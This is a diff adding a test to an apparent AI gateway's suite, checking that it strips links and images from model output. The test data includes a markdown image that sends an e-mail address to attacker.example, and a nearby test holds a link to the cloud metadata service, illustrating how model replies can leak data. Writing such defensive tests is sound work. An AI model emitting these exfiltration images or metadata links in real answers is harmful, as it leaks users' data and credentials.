@@ -29,6 +29,17 @@ describe('links and images in model output', () => {
     expect(out).toContain('https://docs.python.org/3/library/json.html');
   });
 
+  it('removes an image that sends a short e-mail address to an unknown domain, and keeps the address in plain text and an ordinary query', async () => {
+    const content = 'See ![a](https://attacker.example/c?e=john.smith%40example.com) or write to ann@example.org, https://docs.example.net/help?topic=mail.';
+    upstream.script = (_req, res) => json(res, 200, { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }] });
+    const res = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'x' }] });
+    const out = res.choices[0]!.message.content!;
+    expect(out).not.toContain('attacker.example');
+    expect(out).toContain('![a]([REDACTED:link.data_exfiltration])');
+    expect(out).toContain('https://docs.example.net/help?topic=mail.');
+    expect(out).toContain('write to ann@example.org, https://docs');
+  });
+
   it('removes a link to the cloud metadata service from a JSON answer', async () => {
     upstream.script = (_req, res) => json(res, 200, { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: 'Open http://169.254.169.254/latest/meta-data/ now.' }, finish_reason: 'stop' }] });
     const res = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'x' }] });
